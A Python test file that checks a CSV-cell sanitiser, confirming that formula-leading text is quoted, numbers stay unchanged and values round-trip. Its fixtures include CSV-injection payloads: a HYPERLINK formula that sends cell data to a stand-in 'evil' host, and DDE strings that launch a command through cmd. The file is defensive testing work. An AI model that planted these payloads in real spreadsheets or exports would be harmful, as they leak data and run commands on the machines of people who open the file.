"""CSV cells: no text cell begins a formula, numbers are left alone, and reading back gives what was typed."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from renkei.domain.csv_cell import FORMULA_STARTS, PLAIN, QUOTE, csv_cell, neutralise, restore


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+81 93 582 2111", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "=", "--",
])
def test_a_formula_is_written_as_text(typed: str) -> None:
    assert neutralise(typed) == QUOTE + typed
    assert restore(neutralise(typed)) == typed


@pytest.mark.parametrize("typed", ["北九州市", "", "a=b", "'quoted", " =1", "＝全角は式にならない"])
def test_other_text_is_written_as_typed(typed: str) -> None:
    assert neutralise(typed) == typed


@pytest.mark.parametrize("number", [-5, -2.5, 0, 1200, True])
def test_numbers_stay_numbers(number: float) -> None:
    assert csv_cell(number) is number


@given(st.text())
@example("-")
@example("-1")
def test_no_text_cell_begins_a_formula_and_the_quote_comes_off_again(typed: str) -> None:
    """Only a lone 「-」 (PLAIN: a mark that runs nothing) is written as it is."""
    written = neutralise(typed)
    assert not written.startswith(FORMULA_STARTS) or written in PLAIN
    assert written in (typed, QUOTE + typed)
    if not typed.startswith(QUOTE):
        assert restore(written) == typed
